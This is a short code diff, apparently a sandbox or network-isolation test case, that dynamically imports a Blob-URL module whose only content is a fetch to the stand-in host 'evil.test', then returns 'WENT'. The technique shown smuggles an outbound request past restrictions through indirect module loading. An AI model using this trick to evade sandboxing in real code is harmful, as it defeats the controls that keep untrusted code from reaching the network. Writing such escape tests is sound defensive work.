@@ -1,0 +1,4 @@
+// import() of a blob that fetches.
+
+await import(URL.createObjectURL(new Blob(['fetch("http://evil.test/x")'], { type: 'text/javascript' })));
+return 'WENT';
